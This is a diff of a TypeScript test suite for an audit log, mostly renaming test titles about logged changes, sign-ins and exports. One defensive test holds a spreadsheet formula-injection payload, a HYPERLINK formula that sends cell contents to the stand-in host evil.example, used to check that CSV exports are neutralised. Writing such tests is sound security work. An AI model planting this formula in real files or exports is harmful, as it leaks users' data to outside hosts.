@@ -17,7 +17,7 @@ describe('the audit log', () => {
   });
   after(() => service.stop());
 
-  test('says who, when, from where, what, on what and with which result', async () => {
+  test('contains the actor, time, address, action, target and result', async () => {
     const agent = { 'user-agent': 'browser of the test' };
     await owner.request('PATCH', `/v1/projects/${service.projectId}`, { name: 'Renamed' }, agent);
     const event = await newest('project.updated');
@@ -39,7 +39,7 @@ describe('the audit log', () => {
     assert.match(event.requestId, /^req_/);
   });
 
-  test('every change leaves an event, by people and by keys', async () => {
+  test('has an event for every change, by people and by keys', async () => {
     const made: [string, string, unknown, string][] = [
       ['POST', '/v1/api-keys', { name: 'k' }, 'api_key.created'],
       ['PATCH', '/v1/organization', { name: 'O' }, 'organization.updated'],
@@ -68,7 +68,7 @@ describe('the audit log', () => {
     );
   });
 
-  test('an idempotent replay and a refused change leave none', async () => {
+  test('has no event for an idempotent replay or a rejected change', async () => {
     const count = async () => Number((await sql('select count(*) from audit_events')).rows[0].count);
     const headers = { 'idempotency-key': 'once' };
     const body = { prompt: 'y' };
@@ -80,7 +80,7 @@ describe('the audit log', () => {
     assert.equal(await count(), before);
   });
 
-  test('refused sign-ins are recorded, of people and of unknown users', async () => {
+  test('has an event for rejected sign-ins of known and unknown users', async () => {
     for (const email of ['ada@example.com', 'eve@example.com']) {
       await openBrowser(service).request('POST', '/auth/sign-in', { email, password: 'wrong' });
       const event = await newest('session.created');
@@ -130,7 +130,7 @@ describe('the audit log', () => {
     assert.equal((await owner.request('GET', '/v1/audit-events?cursor=x')).status, 400);
   });
 
-  test('CSV contains no formula that a spreadsheet runs, and JSONL is one object a line', async () => {
+  test('CSV contains no formula that a spreadsheet runs, and JSONL has one object per line', async () => {
     const name = '=HYPERLINK("https://evil.example?x="&A1,"click")';
     await service.request('POST', '/v1/api-keys', { body: { name } });
     await service.request('POST', '/v1/api-keys', { body: { name: '  @SUM(1)\nnext, "line"' } });
